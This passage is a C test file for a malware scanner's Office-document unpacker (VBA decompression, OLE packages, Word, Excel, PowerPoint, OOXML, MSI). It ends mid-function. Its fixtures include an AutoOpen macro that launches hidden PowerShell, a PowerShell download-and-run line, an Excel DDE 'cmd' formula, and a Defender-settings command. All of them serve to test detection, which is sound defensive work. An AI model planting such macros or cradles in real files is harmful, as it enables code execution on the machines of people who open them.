/*
 * test_office.c - Office documents (engine/src/unpack_office.c, engine/src/ovba.c, and the OOXML
 * route through engine/src/unpack.c and unpack_archive.c).
 *
 * Documents are built at test time by tests/engine/gen/gen_office.c (libgsf's compound file and
 * ZIP writers, stream contents from the specifications) and, for the MSI cabinet, by gcab. The
 * planted signature SIG never appears in clear in a document's raw bytes where the case is about
 * a decoded form (VBA source is compressed, the PowerPoint object zlib-compressed, Word's text
 * UTF-16LE), so a detection proves the decoding.
 *
 * Two drivers: a recording host (every child's object path and size, and the notes, with each
 * child unpacked in turn as the scanner would), and engine_scan_buffer() with a rule on SIG for
 * verdicts, object paths and reasons end to end. Every input is a heap block of exactly its
 * size, so AddressSanitizer sees any read past it.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "engine/engine.h"
#include "gen/gen_office.h"
#include "ovba.h"
#include "unpack.h"
#include "unpack_office.h"

#ifndef AMSI_SOURCE_DIR
#define AMSI_SOURCE_DIR "."
#endif

#define SIG "AMSI-UNPACK-SIGNATURE-41c7"

/* ---------------------------------------------------------------------------------------------
 * The recording host
 * ------------------------------------------------------------------------------------------- */

typedef struct rec {
    engine_config cfg;
    char path[2048];
    char log[16384];
    char notes[2048];
    unsigned children;
    uint64_t charged;
    bool in_stream;
    unsigned streams;     /* stream children opened */
    unsigned time_calls;  /* out_of_time() calls so far */
    unsigned time_budget; /* out_of_time() is true after this many calls (0: never) */
} rec;

static void append(char *buf, size_t cap, const char *text)
{
    size_t n = strlen(buf);
    if (n + 1 < cap)
        snprintf(buf + n, cap - n, "%s%s", n ? " | " : "", text);
}

static bool rec_scan_child(engine__unpack_host *h, const uint8_t *data, size_t len,
                           const char *name);

static bool rec_stream_open(engine__unpack_host *h, const char *name)
{
    rec *r = h->opaque;
    (void)name;
    r->in_stream = true;
    r->streams++;
    return false;
}

static bool rec_stream_write(engine__unpack_host *h, const uint8_t *data, size_t len)
{
    (void)h;
    (void)data;
    (void)len;
    return false;
}

static bool rec_stream_close(engine__unpack_host *h)
{
    rec *r = h->opaque;
    r->in_stream = false;
    return false;
}

static bool rec_charge(engine__unpack_host *h, uint64_t bytes)
{
    rec *r = h->opaque;
    if (r->charged + bytes > r->cfg.max_scan_size) {
        append(r->notes, sizeof(r->notes), "Limits.Exceeded.MaxScanSize");
        return false;
    }
    r->charged += bytes;
    return true;
}

static void rec_note(engine__unpack_host *h, const char *reason, bool error)
{
    rec *r = h->opaque;
    char e[256];
    snprintf(e, sizeof(e), "%s%s", reason, error ? " [E]" : "");
    append(r->notes, sizeof(r->notes), e);
}

static bool rec_out_of_time(engine__unpack_host *h)
{
    rec *r = h->opaque;
    r->time_calls++;
    if (r->time_budget != 0 && r->time_calls > r->time_budget) {
        if (strstr(r->notes, "MaxScanTime") == NULL)
            append(r->notes, sizeof(r->notes), "Limits.Exceeded.MaxScanTime");
        return true;
    }
    return false;
}

static engine__unpack_host rec_host(rec *r, unsigned depth)
{
    engine__unpack_host h = {.cfg = &r->cfg,
                             .depth = depth,
                             .scan_child = rec_scan_child,
                             .stream_open = rec_stream_open,
                             .stream_write = rec_stream_write,
                             .stream_close = rec_stream_close,
                             .charge = rec_charge,
                             .note = rec_note,
                             .out_of_time = rec_out_of_time,
                             .opaque = r};
    return h;
}

static bool rec_scan_child(engine__unpack_host *h, const uint8_t *data, size_t len,
                           const char *name)
{
    rec *r = h->opaque;
    size_t at = strlen(r->path);
    snprintf(r->path + at, sizeof(r->path) - at, ">%s", name);
    char e[2200];
    bool sig = len > 0 && memmem(data, len, SIG, strlen(SIG)) != NULL;
    snprintf(e, sizeof(e), "%s%s", r->path, sig ? "!" : "");
    append(r->log, sizeof(r->log), e);
    r->children++;
    uint8_t *copy = malloc(len ? len : 1);
    assert_non_null(copy);
    memcpy(copy, data, len);
    engine__unpack_host child = rec_host(r, h->depth + 1);
    int rc = engine__unpack(&child, copy, len);
    assert_true(rc == 0 || rc == 1);
    free(copy);
    r->path[at] = '\0';
    return false;
}

static void rec_init(rec *r)
{
    memset(r, 0, sizeof(*r));
    engine_config_init(&r->cfg);
}

static int rec_run(rec *r, const char *name, const uint8_t *data, size_t len)
{
    r->log[0] = r->notes[0] = '\0';
    r->children = 0;
    snprintf(r->path, sizeof(r->path), "%s", name);
    uint8_t *copy = malloc(len ? len : 1);
    assert_non_null(copy);
    memcpy(copy, data, len);
    engine__unpack_host h = rec_host(r, 0);
    int rc = engine__unpack(&h, copy, len);
    free(copy);
    assert_false(r->in_stream);
    return rc;
}

/* Fails with both texts when `want` is not in `got`. */
static void expect_has(const char *what, const char *got, const char *want)
{
    if (strstr(got, want) == NULL)
        fail_msg("%s:\n  got  [%s]\n  want [%s] inside", what, got, want);
}

/* ---------------------------------------------------------------------------------------------
 * Documents
 * ------------------------------------------------------------------------------------------- */

static const char *const evil_vba = "Sub AutoOpen()\r\n"
                                    "    Dim s As String\r\n"
                                    "    s = \"" SIG "\"\r\n"
                                    "    Shell \"powershell -nop -w hidden -c \" & s\r\n"
                                    "End Sub\r\n";

/* A Word document with a VBA project under Macros/VBA, plus the usual side streams. */
static void make_doc_vba(const char *storage, gen_buf *out)
{
    gen_part parts[8];
    gen_buf bufs[3];
    char paths[3][128];
    assert_int_equal(gen_vba_project(storage, "Module1", evil_vba, parts, bufs, paths), 0);
    gen_buf word = {0}, table = {0};
    assert_int_equal(gen_word("Quarterly report, nothing to see here.", false, &word, &table), 0);
    size_t n = 3;
    parts[n++] = (gen_part){"WordDocument", word.p, word.n};
    parts[n++] = (gen_part){"1Table", table.p, table.n};
    parts[n++] = (gen_part){"\005SummaryInformation", "summary", 7};
    assert_int_equal(gen_ole2(parts, n, NULL, out), 0);
    for (int i = 0; i < 3; i++)
        gen_buf_free(&bufs[i]);
    gen_buf_free(&word);
    gen_buf_free(&table);
}

/* An OLE2 whose only stream `name` holds data. */
static void make_single(const char *name, const void *data, size_t len, gen_buf *out)
{
    gen_part p = {name, data, len};
    assert_int_equal(gen_ole2(&p, 1, NULL, out), 0);
}

/* A document with an embedded OLE Package of evil.ps1. */
static void make_doc_native(gen_buf *out)
{
    static const char payload[] = "IEX (New-Object Net.WebClient).DownloadString('x') # " SIG;
    gen_buf nat = {0};
    assert_int_equal(gen_ole10native("evil.ps1", "C:\\Users\\x\\Desktop\\evil.ps1", payload,
                                     sizeof(payload) - 1, &nat),
                     0);
    gen_part parts[2] = {{"ObjectPool/_1/\001Ole10Native", nat.p, nat.n},
                         {"ObjectPool/_1/\003ObjInfo", "\0\0\0\0\0\0", 6}};
    assert_int_equal(gen_ole2(parts, 2, NULL, out), 0);
    gen_buf_free(&nat);
}

/* ---------------------------------------------------------------------------------------------
 * Scanning end to end
 * ------------------------------------------------------------------------------------------- */

typedef struct ctx {
    engine_rules *rules;
    engine_scratch *s;
} ctx;

static int setup(void **state)
{
    assert_int_equal(engine_global_init(), 0);
    assert_int_equal(engine_global_init(), 0); /* harmless twice */
    gen_office_init();
    ctx *c = calloc(1, sizeof(*c));
    engine_diag diag;
    int rc = engine_rules_compile_string("rule Planted { strings: $a = \"" SIG "\" condition: $a }",
                                         "t.yar", NULL, &c->rules, &diag);
    if (rc != 0)
        fail_msg("compile: %s", diag.text);
    assert_int_equal(engine_scratch_create(c->rules, &c->s), 0);
    *state = c;
    return 0;
}

static int teardown(void **state)
{
    ctx *c = *state;
    engine_scratch_destroy(c->s);
    engine_rules_unref(c->rules);
    free(c);
    return 0;
}

/* Scans b (copied to an exact-size heap block) and checks verdict, object and reason. */
static void scan_expect(ctx *c, const engine_config *cfg, const char *name, const gen_buf *b,
                        engine_verdict verdict, const char *object, const char *reason)
{
    uint8_t *copy = malloc(b->n ? b->n : 1);
    assert_non_null(copy);
    memcpy(copy, b->p, b->n);
    engine_result r;
    assert_int_equal(engine_scan_buffer(c->rules, c->s, cfg, copy, b->n, name, 0, &r), 0);
    free(copy);
    if (r.verdict != verdict)
        fail_msg("%s: verdict %s (reason %s, object %s), want %s", name,
                 engine_verdict_name(r.verdict), r.reason ? r.reason : "-",
                 r.object ? r.object : "-", engine_verdict_name(verdict));
    if (object != NULL && (r.object == NULL || strcmp(r.object, object) != 0))
        fail_msg("%s: object [%s], want [%s]", name, r.object ? r.object : "(null)", object);
    if (reason != NULL && (r.reason == NULL || strcmp(r.reason, reason) != 0))
        fail_msg("%s: reason [%s], want [%s]", name, r.reason ? r.reason : "(null)", reason);
    engine_result_cleanup(&r);
}

/* ---------------------------------------------------------------------------------------------
 * MS-OVBA
 * ------------------------------------------------------------------------------------------- */

static void roundtrip(const uint8_t *in, size_t n)
{
    gen_buf z = {0};
    assert_int_equal(gen_ovba_compress(in, n, &z), 0);
    size_t cap = n + 4096 + 16;
    uint8_t *out = malloc(cap);
    uint8_t *zin = malloc(z.n);
    memcpy(zin, z.p, z.n);
    size_t got = 0;
    assert_int_equal(engine__ovba_decompress(zin, z.n, out, cap, &got), ENGINE__OVBA_OK);
    /* A last chunk that does not compress is written raw, padded with zeros to 4096. */
    assert_true(got == n || (got > n && got % 4096 == 0 && got - n < 4096));
    assert_memory_equal(out, in, n);
    for (size_t i = n; i < got; i++)
        assert_int_equal(out[i], 0);
    /* A smaller output is filled exactly and reported full. */
    if (n > 10) {
        assert_int_equal(engine__ovba_decompress(zin, z.n, out, n - 7, &got), ENGINE__OVBA_FULL);
        assert_int_equal(got, n - 7);
        assert_memory_equal(out, in, n - 7);
    }
    /* Cut anywhere: never more than the truth, and the prefix is right. */
    for (size_t cut = 0; cut < z.n; cut += 1 + z.n / 50) {
        int rc = engine__ovba_decompress(zin, cut, out, cap, &got);
        assert_true(rc == ENGINE__OVBA_ECORRUPT || rc == ENGINE__OVBA_EBADSIG ||
                    rc == ENGINE__OVBA_OK);
        assert_true(got <= n + 4096);
        assert_memory_equal(out, in, got < n ? got : n);
    }
    free(zin);
    free(out);
    gen_buf_free(&z);
}

static void test_ovba_roundtrip(void **state)
{
    (void)state;
    size_t sizes[] = {0, 1, 2, 3, 17, 4095, 4096, 4097, 8192, 12289, 70000};
    uint8_t *buf = malloc(70000);
    uint32_t x = 12345;
    for (size_t k = 0; k < sizeof(sizes) / sizeof(sizes[0]); k++) {
        size_t n = sizes[k];
        /* Text with repeats (copy tokens of every width), then noise (raw chunks). */
        for (size_t i = 0; i < n; i++)
            buf[i] = (uint8_t) "Attribute VB_Name = \"Module1\"\r\nSub X()\r\n"[i % 41];
        roundtrip(buf, n);
        for (size_t i = 0; i < n; i++) {
            x = x * 1103515245u + 12345u;
            buf[i] = (uint8_t)(x >> 16);
        }
        roundtrip(buf, n);
        memset(buf, 'A', n);
        roundtrip(buf, n);
    }
    free(buf);
}

static void test_ovba_corrupt(void **state)
{
    (void)state;
    uint8_t out[8192];
    size_t got = 99;
    assert_int_equal(engine__ovba_decompress((const uint8_t *)"", 0, out, sizeof(out), &got),
                     ENGINE__OVBA_EBADSIG);
    assert_int_equal(got, 0);
    static const uint8_t bad_sig[] = {0x02, 0x03, 0xB0, 0x00, 'a', 'b', 'c'};
    assert_int_equal(engine__ovba_decompress(bad_sig, sizeof(bad_sig), out, sizeof(out), &got),
                     ENGINE__OVBA_EBADSIG);
    /* A chunk header without its 0b011 signature. */
    static const uint8_t bad_hdr[] = {0x01, 0x03, 0x80, 0x00, 'a'};
    assert_int_equal(engine__ovba_decompress(bad_hdr, sizeof(bad_hdr), out, sizeof(out), &got),
                     ENGINE__OVBA_ECORRUPT);
    /* A copy token as the chunk's first token reaches before the chunk. */
    static const uint8_t early[] = {0x01, 0x02, 0xB0, 0x01, 0x00, 0x00};
    assert_int_equal(engine__ovba_decompress(early, sizeof(early), out, sizeof(out), &got),
                     ENGINE__OVBA_ECORRUPT);
    assert_int_equal(got, 0);
    /* A copy reaching further back than what was produced. */
    static const uint8_t far[] = {0x01, 0x03, 0xB0, 0x02, 'a', 0x00, 0xF0};
    assert_int_equal(engine__ovba_decompress(far, sizeof(far), out, sizeof(out), &got),
                     ENGINE__OVBA_ECORRUPT);
    assert_int_equal(got, 1);
    /* A chunk header claiming more than the input holds: what is there, then corrupt. */
    static const uint8_t cut[] = {0x01, 0xFF, 0xBF, 0x00, 'a', 'b', 'c'};
    assert_int_equal(engine__ovba_decompress(cut, sizeof(cut), out, sizeof(out), &got),
                     ENGINE__OVBA_ECORRUPT);
    assert_int_equal(got, 3);
    assert_memory_equal(out, "abc", 3);
    /* One byte repeated far past 4096 in one chunk is corrupt, not an overflow. */
    uint8_t big[1 + 2 + 1 + 1 + 2 * 8 * 40];
    size_t k = 0;
    big[k++] = 0x01;
    k += 2;
    big[k++] = 0xFE; /* literal, then seven copy tokens */
    big[k++] = 'z';
    for (int i = 0; i < 7; i++) {
        big[k++] = 0xFF; /* offset 1, length 4098 at bits 4 */
        big[k++] = 0x0F;
    }
    for (int t = 0; t < 30; t++) {
        big[k++] = 0xFF;
        for (int i = 0; i < 8; i++) {
            big[k++] = 0xFF;
            big[k++] = 0x0F;
        }
    }
    big[1] = (uint8_t)((k - 3) & 0xFF);
    big[2] = (uint8_t)(0xB0 | ((k - 3) >> 8));
    assert_int_equal(engine__ovba_decompress(big, k, out, sizeof(out), &got),
                     ENGINE__OVBA_ECORRUPT);
    assert_true(got <= 4096);
}

static void test_ovba_dir(void **state)
{
    (void)state;
    const char *names[3] = {"ThisDocument", "Module1", "Sheet 2"};
    uint32_t offs[3] = {0x1234, 7, 0};
    gen_buf z = {0};
    assert_int_equal(gen_vba_dir(names, offs, 3, &z), 0);
    uint8_t d[65536];
    size_t dl = 0;
    assert_int_equal(engine__ovba_decompress(z.p, z.n, d, sizeof(d), &dl), ENGINE__OVBA_OK);
    engine__ovba_module mods[4];
    assert_int_equal(engine__ovba_dir_modules(d, dl, mods, 4), 3);
    for (int i = 0; i < 3; i++) {
        assert_string_equal(mods[i].stream, names[i]);
        assert_int_equal(mods[i].text_offset, offs[i]);
    }
    /* Room for one: one. Cut short: what was complete, or -1 before any module. */
    assert_int_equal(engine__ovba_dir_modules(d, dl, mods, 1), 1);
    assert_int_equal(engine__ovba_dir_modules(d, 23, mods, 4), -1);
    assert_int_equal(engine__ovba_dir_modules(d, 0, mods, 4), -1);
    gen_buf_free(&z);
}

/* ---------------------------------------------------------------------------------------------
 * Record parsers
 * ------------------------------------------------------------------------------------------- */

static void test_ole10native(void **state)
{
    (void)state;
    gen_buf b = {0};
    assert_int_equal(gen_ole10native("label.txt", "C:\\dir\\evil.ps1", "PAYLOAD", 7, &b), 0);
    engine__native nat;
    assert_int_equal(engine__ole10native_parse(b.p, b.n, &nat), 0);
    assert_string_equal(nat.name, "evil.ps1");
    assert_int_equal(nat.len, 7);
    assert_memory_equal(nat.data, "PAYLOAD", 7);
    /* Any cut: a payload inside the stream, or none; never past it. */
    for (size_t cut = 0; cut < b.n; cut++) {
        uint8_t *p = malloc(cut ? cut : 1);
        memcpy(p, b.p, cut);
        if (engine__ole10native_parse(p, cut, &nat) == 0)
            assert_true(nat.data >= p && nat.data + nat.len <= p + cut);
        free(p);
    }
    /* Not a package: the bytes after the size. */
    static const uint8_t raw[] = {5, 0, 0, 0, 'h', 'e', 'l', 'l', 'o', 'X'};
    assert_int_equal(engine__ole10native_parse(raw, sizeof(raw), &nat), 0);
    assert_string_equal(nat.name, "native");
    assert_int_equal(nat.len, 5);
    assert_int_equal(engine__ole10native_parse(raw, 4, &nat), -1);
    gen_buf_free(&b);
}

static void test_ppt_records(void **state)
{
    (void)state;
    gen_buf s = {0};
    assert_int_equal(gen_ppt_document("OBJECTBYTES", 11, true, &s), 0);
    size_t pos = 0;
    engine__ppt_object obj;
    assert_int_equal(engine__ppt_next(s.p, s.n, &pos, &obj), ENGINE__PPT_OBJECT);
    assert_true(obj.compressed);
    assert_int_equal(obj.size, 11);
    assert_int_equal(obj.offset, 56);
    assert_int_equal(engine__ppt_next(s.p, s.n, &pos, &obj), ENGINE__PPT_END);
    pos = 0;
    assert_int_equal(engine__ppt_next(s.p, s.n - 1, &pos, &obj), ENGINE__PPT_ECORRUPT);
    gen_buf_free(&s);
    /* A CryptSession10Container says encrypted. */
    static const uint8_t crypt[] = {0x0F, 0x00, 0x14, 0x2F, 0, 0, 0, 0};
    pos = 0;
    assert_int_equal(engine__ppt_next(crypt, sizeof(crypt), &pos, &obj), ENGINE__PPT_ENCRYPTED);
}

static void test_word_and_excel_records(void **state)
{
    (void)state;
    gen_buf w = {0}, t = {0}, x = {0};
    assert_int_equal(gen_word("Hello Word", false, &w, &t), 0);
    uint8_t out[64];
    size_t n = engine__word_text(w.p, w.n, t.p, t.n, out, sizeof(out));
    assert_int_equal(n, 10);
    assert_memory_equal(out, "Hello Word", 10);
    /* A table too short for its CLX gives no text. */
    assert_int_equal(engine__word_text(w.p, w.n, t.p, 10, out, sizeof(out)), 0);
    assert_int_equal(engine__word_text(w.p, 100, t.p, t.n, out, sizeof(out)), 0);
    bool enc, t1;
    assert_true(engine__word_fib(w.p, w.n, &enc, &t1));
    assert_false(enc);
    assert_true(t1);
    gen_buf_free(&w);
    gen_buf_free(&t);
    assert_int_equal(gen_word("x", true, &w, &t), 0);
    assert_true(engine__word_fib(w.p, w.n, &enc, &t1));
    assert_true(enc);
    assert_int_equal(gen_workbook("cell", false, &x), 0);
    assert_false(engine__excel_encrypted(x.p, x.n));
    gen_buf_free(&x);
    assert_int_equal(gen_workbook("cell", true, &x), 0);
    assert_true(engine__excel_encrypted(x.p, x.n));
    gen_buf_free(&x);
    /* Text: LABEL and SST strings, a UTF-16 one across a CONTINUE record. */
    assert_int_equal(gen_workbook("label text", false, &x), 0);
    n = engine__excel_text(x.p, x.n, out, sizeof(out));
    assert_int_equal(n, 11);
    assert_memory_equal(out, "label text\n", 11);
    gen_buf_free(&x);
    assert_int_equal(gen_workbook_sst("caf\xe9 across records", &x), 0);
    n = engine__excel_text(x.p, x.n, out, sizeof(out));
    assert_int_equal(n, 6 + 21);
    assert_memory_equal(out, "first\ncaf\xc3\xa9 across records\n", n);
    /* Every cut and every capacity: bounded, never past the data. */
    for (size_t cut = 0; cut <= x.n; cut++) {
        uint8_t *p = malloc(cut ? cut : 1);
        memcpy(p, x.p, cut);
        assert_true(engine__excel_text(p, cut, out, sizeof(out)) <= sizeof(out));
        assert_true(engine__excel_text(p, cut, out, 9) <= 9);
        free(p);
    }
    gen_buf_free(&x);
    gen_buf_free(&w);
    gen_buf_free(&t);
}

/* ---------------------------------------------------------------------------------------------
 * Documents through the recording host
 * ------------------------------------------------------------------------------------------- */

static void test_walk_paths(void **state)
{
    (void)state;
    rec r;
    rec_init(&r);
    gen_buf b = {0};
    make_doc_vba("Macros/VBA", &b);
    assert_int_equal(rec_run(&r, "doc.doc", b.p, b.n), 0);
    expect_has("children", r.log, "doc.doc>Macros/VBA/Module1!");
    expect_has("children", r.log, "doc.doc>Macros/VBA/dir");
    expect_has("children", r.log, "doc.doc>WordDocument>text");
    expect_has("children", r.log, "doc.doc>\\x05SummaryInformation");
    if (r.notes[0] != '\0')
        fail_msg("notes: %s", r.notes);
    gen_buf_free(&b);

    make_doc_native(&b);
    assert_int_equal(rec_run(&r, "doc.doc", b.p, b.n), 0);
    expect_has("children", r.log, "doc.doc>ObjectPool/_1/\\x01Ole10Native>evil.ps1!");
    gen_buf_free(&b);

    /* scan_office off: not unpacked. */
    make_doc_native(&b);
    r.cfg.scan_office = false;
    assert_int_equal(rec_run(&r, "doc.doc", b.p, b.n), 1);
    gen_buf_free(&b);
}

/* ---------------------------------------------------------------------------------------------
 * Documents end to end
 * ------------------------------------------------------------------------------------------- */

static void test_vba_detected(void **state)
{
    ctx *c = *state;
    engine_config cfg;
    engine_config_init(&cfg); /* the defaults: only scan_office */
    gen_buf b = {0};
    make_doc_vba("Macros/VBA", &b);
    assert_null(memmem(b.p, b.n, SIG, strlen(SIG))); /* only the decompressed source has it */
    scan_expect(c, &cfg, "doc.doc", &b, ENGINE_VERDICT_DETECTED, "doc.doc>Macros/VBA/Module1",
                NULL);
    gen_buf_free(&b);
    make_doc_vba("_VBA_PROJECT_CUR/VBA", &b);
    scan_expect(c, &cfg, "book.xls", &b, ENGINE_VERDICT_DETECTED,
                "book.xls>_VBA_PROJECT_CUR/VBA/Module1", NULL);
    /* Office off: the raw bytes alone show nothing. */
    cfg.scan_office = false;
    scan_expect(c, &cfg, "book.xls", &b, ENGINE_VERDICT_CLEAN, NULL, NULL);
    gen_buf_free(&b);
}

static void test_native_detected(void **state)
{
    ctx *c = *state;
    engine_config cfg;
    engine_config_init(&cfg);
    gen_buf b = {0};
    make_doc_native(&b);
    scan_expect(c, &cfg, "doc.doc", &b, ENGINE_VERDICT_DETECTED,
                "doc.doc>ObjectPool/_1/\\x01Ole10Native>evil.ps1", NULL);
    gen_buf_free(&b);
}

static void test_word_text_detected(void **state)
{
    ctx *c = *state;
    engine_config cfg;
    engine_config_init(&cfg);
    gen_buf w = {0}, t = {0}, b = {0};
    assert_int_equal(gen_word("Dear reader, " SIG " regards.", false, &w, &t), 0);
    gen_part parts[2] = {{"WordDocument", w.p, w.n}, {"1Table", t.p, t.n}};
    assert_int_equal(gen_ole2(parts, 2, NULL, &b), 0);
    assert_null(memmem(b.p, b.n, SIG, strlen(SIG)));
    scan_expect(c, &cfg, "doc.doc", &b, ENGINE_VERDICT_DETECTED, "doc.doc>WordDocument>text", NULL);
    gen_buf_free(&b);
    gen_buf_free(&w);
    gen_buf_free(&t);
}

static void test_excel_stream_scanned(void **state)
{
    ctx *c = *state;
    engine_config cfg;
    engine_config_init(&cfg);
    gen_buf x = {0}, b = {0};
    assert_int_equal(gen_workbook("=cmd|' /c " SIG "'!A0", false, &x), 0);
    make_single("Workbook", x.p, x.n, &b);
    scan_expect(c, &cfg, "book.xls", &b, ENGINE_VERDICT_DETECTED, "book.xls>Workbook>text", NULL);
    gen_buf_free(&b);
    gen_buf_free(&x);
    /* A UTF-16 shared string split by a CONTINUE record: only the extracted text has SIG. */
    assert_int_equal(gen_workbook_sst("=cmd|' /c " SIG "'!A0", &x), 0);
    make_single("Workbook", x.p, x.n, &b);
    assert_null(memmem(b.p, b.n, SIG, strlen(SIG)));
    scan_expect(c, &cfg, "book.xls", &b, ENGINE_VERDICT_DETECTED, "book.xls>Workbook>text", NULL);
    gen_buf_free(&b);
    gen_buf_free(&x);
}

static void test_encrypted(void **state)
{
    ctx *c = *state;
    engine_config cfg;
    engine_config_init(&cfg);
    gen_buf w = {0}, t = {0}, b = {0}, x = {0};
    /* Word fEncrypted. */
    assert_int_equal(gen_word("secret", true, &w, &t), 0);
    gen_part parts[2] = {{"WordDocument", w.p, w.n}, {"1Table", t.p, t.n}};
    assert_int_equal(gen_ole2(parts, 2, NULL, &b), 0);
    scan_expect(c, &cfg, "enc.doc", &b, ENGINE_VERDICT_ERROR, NULL, "encrypted document");
    gen_buf_free(&b);
    /* Excel FILEPASS. */
    assert_int_equal(gen_workbook("secret", true, &x), 0);
    make_single("Workbook", x.p, x.n, &b);
    scan_expect(c, &cfg, "enc.xls", &b, ENGINE_VERDICT_ERROR, NULL, "encrypted document");
    gen_buf_free(&b);
    /* Encrypted OOXML: an OLE2 with EncryptionInfo and EncryptedPackage. */
    static const uint8_t noise[600] = {0x04, 0x00, 0x04, 0x00, 0x40};
    gen_part agile[3] = {{"\006DataSpaces/Version", "\x3c\0\0\0", 4},
                         {"EncryptedPackage", noise, sizeof(noise)},
                         {"EncryptionInfo", noise, 64}};
    assert_int_equal(gen_ole2(agile, 3, NULL, &b), 0);
    scan_expect(c, &cfg, "enc.docx", &b, ENGINE_VERDICT_ERROR, NULL, "encrypted document");
    gen_buf_free(&b);
    /* Detection wins: an encrypted package next to a readable stream holding SIG. */
    gen_part mixed[2] = {{"EncryptedPackage", noise, sizeof(noise)}, {"Notes", SIG, strlen(SIG)}};
    assert_int_equal(gen_ole2(mixed, 2, NULL, &b), 0);
    scan_expect(c, &cfg, "mixed.doc", &b, ENGINE_VERDICT_DETECTED, "mixed.doc>Notes", NULL);
    gen_buf_free(&b);
    gen_buf_free(&w);
    gen_buf_free(&t);
    gen_buf_free(&x);
}

/* A compound file holding a stream with SIG, for the PowerPoint and OOXML cases. */
static void make_inner_ole(gen_buf *out)
{
    static const char text[] = "Set-MpPreference; " SIG;
    gen_buf nat = {0};
    assert_int_equal(gen_ole10native("run.ps1", "C:\\run.ps1", text, sizeof(text) - 1, &nat), 0);
    gen_part p = {"\001Ole10Native", nat.p, nat.n};
    assert_int_equal(gen_ole2(&p, 1, NULL, out), 0);
    gen_buf_free(&nat);
}

static void test_ppt_objects(void **state)
{
    ctx *c = *state;
    engine_config cfg;
    engine_config_init(&cfg);
    gen_buf inner = {0}, s = {0}, b = {0};
    make_inner_ole(&inner);
    assert_int_equal(gen_ppt_document(inner.p, inner.n, true, &s), 0);
    gen_part p[2] = {{"Current User", "\x14\0\0\0", 4}, {"PowerPoint Document", s.p, s.n}};
    assert_int_equal(gen_ole2(p, 2, NULL, &b), 0);
    assert_null(memmem(b.p, b.n, SIG, strlen(SIG)));
    scan_expect(c, &cfg, "deck.ppt", &b, ENGINE_VERDICT_DETECTED,
                "deck.ppt>PowerPoint Document>ExOleObjStg@56>\\x01Ole10Native>run.ps1", NULL);
    gen_buf_free(&b);
    gen_buf_free(&s);
    /* An uncompressed object goes the same way. */
    assert_int_equal(gen_ppt_document(inner.p, inner.n, false, &s), 0);
    p[1].data = s.p;
    p[1].len = s.n;
    assert_int_equal(gen_ole2(p, 2, NULL, &b), 0);
    scan_expect(c, &cfg, "deck.ppt", &b, ENGINE_VERDICT_DETECTED,
                "deck.ppt>PowerPoint Document>ExOleObjStg@56>\\x01Ole10Native>run.ps1", NULL);
    gen_buf_free(&b);
    gen_buf_free(&s);
    gen_buf_free(&inner);
}

static void test_ooxml(void **state)
{
    ctx *c = *state;
    engine_config cfg;
    engine_config_init(&cfg); /* scan_archives is off by default */
    static const char ct[] = "<?xml version=\"1.0\"?><Types/>";
    gen_buf vba = {0}, b = {0}, inner = {0};
    make_doc_vba("VBA", &vba);
    gen_part docm[3] = {{"[Content_Types].xml", ct, sizeof(ct) - 1},
                        {"word/document.xml", "<w:document/>", 13},
                        {"word/vbaProject.bin", vba.p, vba.n}};
    assert_int_equal(gen_ooxml(docm, 3, &b), 0);
    scan_expect(c, &cfg, "doc.docm", &b, ENGINE_VERDICT_DETECTED,
                "doc.docm>word/vbaProject.bin>VBA/Module1", NULL);
    /* One step (the package) is not enough to reach the project. */
    engine_config shallow = cfg;
    shallow.max_recursion = 1;
    scan_expect(c, &shallow, "doc.docm", &b, ENGINE_VERDICT_LIMIT, NULL,
                "Limits.Exceeded.MaxRecursion");
    engine_config off = cfg;
    off.scan_office = false;
    scan_expect(c, &off, "doc.docm", &b, ENGINE_VERDICT_CLEAN, NULL, NULL);
    gen_buf_free(&b);

    make_inner_ole(&inner);
    gen_part docx[3] = {{"[Content_Types].xml", ct, sizeof(ct) - 1},
                        {"word/document.xml", "<w:document/>", 13},
                        {"word/embeddings/oleObject1.bin", inner.p, inner.n}};
    assert_int_equal(gen_ooxml(docx, 3, &b), 0);
    scan_expect(c, &cfg, "doc.docx", &b, ENGINE_VERDICT_DETECTED,
                "doc.docx>word/embeddings/oleObject1.bin>\\x01Ole10Native>run.ps1", NULL);
    gen_buf_free(&b);
    /* Every part is scanned: a plain XML part. */
    gen_part xlsx[2] = {{"[Content_Types].xml", ct, sizeof(ct) - 1},
                        {"xl/sharedStrings.xml", "<sst><si><t>" SIG "</t></si></sst>", 38}};
    assert_int_equal(gen_ooxml(xlsx, 2, &b), 0);
    scan_expect(c, &cfg, "book.xlsx", &b, ENGINE_VERDICT_DETECTED, "book.xlsx>xl/sharedStrings.xml",
                NULL);
    gen_buf_free(&b);
    gen_buf_free(&inner);
    gen_buf_free(&vba);
}

/* Builds a cabinet of evil.ps1 with gcab (MSZIP, so the raw bytes hide SIG). */
static bool make_cab(gen_buf *out)
{
    char dir[] = "/tmp/amsi-office-XXXXXX";
    if (mkdtemp(dir) == NULL)
        return false;
    char cmd[512];
    snprintf(cmd, sizeof(cmd),
             "cd %s && printf 'Write-Host %s\\n' > evil.ps1 && gcab -z -c evil.cab evil.ps1 "
             ">/dev/null 2>&1",
             dir, SIG);
    bool ok = system(cmd) == 0;
    if (ok) {
        snprintf(cmd, sizeof(cmd), "%s/evil.cab", dir);
        FILE *f = fopen(cmd, "rb");
        uint8_t buf[4096];
        size_t k;
        while (f != NULL && (k = fread(buf, 1, sizeof(buf), f)) > 0)
            gen_put(out, buf, k);
        if (f != NULL)
            fclose(f);
        ok = f != NULL && out->n > 0;
    }
    snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
    if (system(cmd) != 0)
        ok = false;
    return ok;
}

static void test_msi_cabinet(void **state)
{
    ctx *c = *state;
    gen_buf cab = {0}, b = {0};
    if (!make_cab(&cab))
        skip();
    assert_null(memmem(cab.p, cab.n, SIG, strlen(SIG)));
    char packed[64], want[128];
    gen_msi_name("evil.cab", packed, sizeof(packed));
    gen_part p[2] = {{"\005SummaryInformation", "x", 1}, {packed, cab.p, cab.n}};
    assert_int_equal(gen_ole2(p, 2, gen_msi_clsid, &b), 0);
    engine_config cfg;
    engine_config_init(&cfg);
    cfg.scan_packages = true;
    snprintf(want, sizeof(want), "setup.msi>evil.cab>evil.ps1");
    scan_expect(c, &cfg, "setup.msi", &b, ENGINE_VERDICT_DETECTED, want, NULL);
    /* Packages off (the default): the MSI is not taken apart. */
    cfg.scan_packages = false;
    scan_expect(c, &cfg, "setup.msi", &b, ENGINE_VERDICT_CLEAN, NULL, NULL);
    gen_buf_free(&b);
